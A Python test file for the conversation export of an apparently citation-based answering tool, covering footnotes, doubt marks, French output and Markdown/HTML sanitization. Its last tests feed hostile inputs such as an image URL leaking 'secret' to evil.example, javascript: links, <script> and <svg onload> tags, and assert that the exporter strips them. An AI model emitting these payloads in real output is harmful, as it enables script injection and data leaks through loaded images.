import re
from typing import Any

from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pincite.conversations.export import text_export
from pincite.conversations.transcript import Conversation, ConversationMessage
from pincite.events import Answer, Citation, Section, Sentence, Usage
from pincite.store.conversations import StoredConversation
from pincite.store.messages import StoredMessage


def cited(n: int, **given: Any) -> Citation:
    usual: dict[str, Any] = {"document": "d", "title": "Lakes", "kind": "pdf", "url": None, "page": 3, "quote": "Deep."}
    return Citation(n=n, evidence=n, start=0, end=5, score=1.0, boxes=[], **usual | given)


def answered(text: str, sentences: list[Sentence] | None = None, citations: list[Citation] | None = None) -> Answer:
    return Answer(
        answer=text,
        refused=False,
        question="",
        model="fake",
        sentences=sentences or [],
        citations=citations or [],
        usage=Usage(),
    )


def talk(*said: tuple[str, Answer | None], title: str = "Lakes") -> Conversation:
    messages = []
    for number, (question, answer) in enumerate(said):
        asked = StoredMessage(f"q{number}", "c", "local", 2 * number, "user", question, "done", 0.0, 0.0)
        state = "done" if answer else "running"
        reply = StoredMessage(f"a{number}", "c", "local", 2 * number + 1, "assistant", "", state, 0.0, 0.0)  # type: ignore[arg-type]
        messages += [ConversationMessage(asked), ConversationMessage(reply, answer)]
    return Conversation(StoredConversation("c", "local", title, 0.0, 0.0), tuple(messages))


def test_a_number_in_brackets_inside_a_sentence_is_a_word_of_it() -> None:
    words = "Smith [1] and Jones [17, 21] measured it."
    sentence = Sentence(text=words, citations=[1], support="verified", start=0, end=len(words))
    text = text_export.export_markdown(talk(("?", answered(f"{words} [1]", [sentence], [cited(1)]))))
    assert r"Smith \[1\] and Jones \[17, 21\] measured it.[^1-1]".replace("\\", "") in text.replace("\\", "")


def test_footnotes_carry_title_page_and_quote_and_each_answer_has_its_own() -> None:
    text = text_export.export_markdown(
        talk(
            ("How deep?", answered("It is deep. [1]", citations=[cited(1)])),
            (
                "How cold?",
                answered("Cold [1][2].", citations=[cited(1, page=None), cited(2, url="https://a.example/x")]),
            ),
        )
    )
    assert "It is deep.[^1-1]" in text
    assert "[^1-1]: Lakes, page 3: “Deep.”" in text
    assert "Cold[^2-1][^2-2]." in text
    assert "[^2-1]: Lakes: “Deep.”" in text
    assert "[^2-2]: Lakes, page 3, https://a.example/x: “Deep.”" in text


def test_a_word_that_a_line_end_of_a_source_broke_is_whole_in_its_footnote() -> None:
    quote = "a col\u00ad\nlection of well-\nknown herons"
    said = talk(("What?", answered("It has birds. [1]", citations=[cited(1, quote=quote)])))
    for text in (text_export.export_markdown(said), text_export.export_html(said)):
        assert "a collection of well-known herons" in text


def test_a_number_in_brackets_that_cites_nothing_stays_as_it_is() -> None:
    text = text_export.export_markdown(talk(("?", answered("An array a[7] is cited [1].", citations=[cited(1)]))))
    assert "An array a[7] is cited[^1-1]." in text


def test_sentences_in_doubt_are_marked_so() -> None:
    answer = answered(
        "It is deep. [1] It is green. It is wide.",
        [
            Sentence(text="It is deep.", citations=[1], support="partial", start=0, end=11),
            Sentence(text="It is green.", citations=[], support="unsupported", start=16, end=28),
            Sentence(text="It is wide.", citations=[], support="verified", start=29, end=40),
        ],
        [cited(1)],
    )
    text = text_export.export_markdown(talk(("?", answer)))
    assert "It is deep.[^1-1] *(supported in part)* It is green. *(not found in the sources)* It is wide." in text
    page = text_export.export_html(talk(("?", answer)))
    assert '<span class="doubt">(not found in the sources)</span>' in page


def test_a_french_report_is_dated_and_doubted_in_french() -> None:
    doubted = Sentence(text="Il est profond.", citations=[], support="unsupported", start=0, end=15)
    said = answered("Il est profond.", [doubted]).model_copy(update={"outline": [Section(heading="Lac", question="?")]})
    whole = talk(("Quelle est la profondeur de ce lac ?", said))
    for text in (text_export.export_markdown(whole), text_export.export_html(whole)):
        assert "1970-01-01, réponse de Pincite" in text
        assert "(introuvable dans les sources)" in text
        assert "Phrases vérifiées\u00a0: 0 sur 1, introuvables dans les sources\u00a0: 1" in text


def test_a_page_shows_markdown_and_links_its_marks_to_its_notes() -> None:
    page = text_export.export_html(talk(("?", answered("It is **deep** [1].\n\n- a\n- b", citations=[cited(1)]))))
    assert "<strong>deep</strong>" in page
    assert "<li>a</li>" in page
    assert 'href="#note-1-1"' in page
    assert 'id="note-1-1"' in page


def test_an_answer_that_is_still_being_written_is_said_to_be() -> None:
    assert "still being written" in text_export.export_markdown(talk(("How deep?", None)))
    assert "still being written" in text_export.export_html(talk(("How deep?", None)))


def test_an_answer_that_was_stopped_says_where() -> None:
    stopped = answered("It is").model_copy(update={"stopped": True})
    assert "It is *(stopped here)*" in text_export.export_markdown(talk(("How deep?", stopped)))
    assert "(stopped here)" in text_export.export_html(talk(("How deep?", stopped)))


def test_code_stands_as_it_was_written() -> None:
    text = text_export.export_markdown(talk(("?", answered("Use `List<int>` or\n\n```\na<b>()\n```\n\nnot <b>"))))
    assert "`List<int>`" in text
    assert "a<b>()" in text
    assert "not \\<b>" in text


def test_numbers_in_code_are_no_marks() -> None:
    text = text_export.export_markdown(talk(("?", answered("Use `a[1]` here. [1]", citations=[cited(1)]))))
    assert "Use `a[1]` here.[^1-1]" in text


def test_pictures_and_scripts_of_an_answer_leave_their_words_and_links_to_pages_stay() -> None:
    said = (
        "See ![the chart](http://evil.example/?q=secret) and ![two][r]. [Run](javascript:alert(1)) or "
        '[read](https://example.org/a_(b) "A page"). [Write](mailto:a@example.org). Great! [1]'
    )
    quote = "![x](http://evil.example/x.png) [y](data:text/html,z)"
    text = text_export.export_markdown(
        talk(("![q](http://evil.example/q)", answered(said, citations=[cited(1, quote=quote)])))
    )
    assert "evil.example" not in text
    assert "See the chart and two. Run or " in text
    assert '[read](https://example.org/a_(b) "A page"). [Write](mailto:a@example.org). Great![^1-1]' in text
    assert "“x y”" in text


def loaded(text: str) -> list[str]:
    """Return what a Markdown reader without checks would load, run or follow, except links to pages and mail."""
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    reader.validateLink = lambda url: True  # type: ignore[method-assign]
    tokens = [each for token in reader.parse(text) for each in (token, *(token.children or ()))]
    found = [str(each.attrs.get("href")) for each in tokens if each.type == "link_open"]
    found = [url for url in found if not url.lower().startswith(("https://", "http://", "mailto:"))]
    return found + [each.type for each in tokens if each.type in ("image", "html_inline", "html_block")]


TRICKS = [
    "![x](http://e.example)",
    "![x][r]",
    "[r]: http://e.example",
    "[x](java&#115;cript:a)",
    "[a [b]](javascript:a)",
    "\\![x](http://e.example)",
    "\\<img src=x>",
    "<img src=x>",
    "<javascript:a>",
    "![^1-1](http://e.example)",
    "[^1-1](javascript:a)",
    *("`", "``", "```", "\\", "\n", "\n\n", " ", "!", "[1]", "a", "~~~", "> ", "- ", "    ", "|", "[", "]", "(", ")"),
]
tricks = st.lists(st.sampled_from(TRICKS), max_size=8).map("".join)


@example("", "", "\\` ![x](http://e.example) \\`", "")
@example("", "", "a ```\n\n![x](http://e.example)\n\nb ```", "")
@example("", "", "", "`![x](http://e.example)`")
@example("", "[r]: http://e.example", "`` ` ![x][r] ` ``", "")
@given(tricks, tricks, tricks, tricks)
def test_whatever_was_said_an_export_loads_nothing_and_runs_nothing(
    title: str, question: str, text: str, quote: str
) -> None:
    citations = [cited(1, title=f"{title}`", quote=quote)]
    answers = [(question, answered(text, citations=citations)), (question, answered(quote, citations=citations))]
    assert loaded(text_export.export_markdown(talk(*answers, title=title))) == []


@given(
    st.text(),
    st.text(),
    st.text(),
    st.text(),
    st.lists(st.tuples(st.integers(-5, 200), st.integers(-5, 200)), max_size=4),
)
def test_whatever_was_said_an_export_holds_no_tag_but_its_own(
    title: str, question: str, text: str, quote: str, places: list[tuple[int, int]]
) -> None:
    sentences = [Sentence(text="", citations=[], support="partial", start=a, end=b) for a, b in places]
    hostile = f"{text}<script>{quote}</script>[1]"
    answer = answered(hostile, sentences, [cited(1, title=title, quote=f"<img src=x>{quote}", url="javascript:x")])
    conversation = talk((f"{question}<svg onload=1>", answer), title=f"{title}</title><b>")
    page = text_export.export_html(conversation)
    assert set(re.findall(r"<(script|svg|img|iframe|link)", page)) == set()
    assert 'href="javascript' not in page
    assert page.count("</title>") == 1
    text_export.export_markdown(conversation)
